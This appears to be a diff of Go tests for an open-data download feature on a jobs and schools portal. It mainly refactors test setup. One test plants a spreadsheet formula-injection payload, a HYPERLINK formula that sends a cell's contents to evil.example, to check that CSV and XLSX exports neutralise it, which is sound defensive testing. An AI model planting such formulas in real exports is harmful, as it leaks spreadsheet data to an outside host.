@@ -91,8 +91,7 @@ func TestDownloadsHoldEveryPublicEntry(t *testing.T) {
 // official.
 func TestDownloadsLeaveOutWhatIsNotPublic(t *testing.T) {
 	t.Parallel()
-	st, w := publicWorld(t)
-	app := newApp(t, st)
+	app, w := publicApp(t)
 	hidden := map[string][]int64{
 		"jobs": {w.draftJob.ID, w.archivedJob.ID}, "companies": {w.draftCompany.ID}, "schools": {w.draftSchool.ID},
 		"programs": {w.draftProgram.ID}, "projects": {w.archivedProject.ID},
@@ -137,8 +136,7 @@ func flatten(rows [][]string) []string {
 // text in the CSV and the XLSX.
 func TestDownloadsNeutraliseFormulas(t *testing.T) {
 	t.Parallel()
-	st := testenv.Store(t)
-	app := newApp(t, st)
+	st, app := emptyApp(t)
 	co := testenv.NewCompany(t, st, 1, "hcm", domain.StatusPublished)
 	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Nộp hồ sơ")`
 	j := testenv.NewJob(t, st, co, testenv.JobSpec{Title: evil})
@@ -166,12 +164,8 @@ func TestDownloadsNeutraliseFormulas(t *testing.T) {
 // catalogue names every distribution, and each answers.
 func TestOpenDataPage(t *testing.T) {
 	t.Parallel()
-	st, _ := publicWorld(t)
-	app := newApp(t, st)
-	page := get(t, app, "/du-lieu-mo")
-	if page.status != http.StatusOK {
-		t.Fatalf("GET /du-lieu-mo = %d", page.status)
-	}
+	app, _ := publicApp(t)
+	page := getOK(t, app, "/du-lieu-mo")
 	want := []string{"CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/", "/api/openapi.json", "/du-lieu-mo/dcat.jsonld", "Từ điển dữ liệu", "wage_min", "Lương tối thiểu"}
 	for _, k := range kind.All {
 		p := k.Type().Plural
@@ -230,8 +224,7 @@ func TestOpenDataPage(t *testing.T) {
 // TestDownloadsRevalidate: an unchanged file answers 304 to If-None-Match.
 func TestDownloadsRevalidate(t *testing.T) {
 	t.Parallel()
-	st, _ := publicWorld(t)
-	app := newApp(t, st)
+	app, _ := publicApp(t)
 	first := get(t, app, "/du-lieu-mo/schools.csv")
 	tag := first.header.Get("ETag")
 	req := httptest.NewRequest(http.MethodGet, "/du-lieu-mo/schools.csv", nil)
@@ -255,8 +248,7 @@ func TestDownloadsRevalidate(t *testing.T) {
 // download and no API answer, by name or email.
 func TestOpenDataNamesNoOfficial(t *testing.T) {
 	t.Parallel()
-	st := testenv.Store(t)
-	app := newApp(t, st)
+	st, app := emptyApp(t)
 	dept := "hcm-sonv"
 	official := store.User{Email: "can.bo.bidanh@sonv.example.vn", Name: "Trần Thị Bí Danh", Role: "editor", City: testenv.Ptr("hcm"), DepartmentCode: &dept, PasswordHash: "x"}
 	must(t, st.CreateUser(ctx, &official))
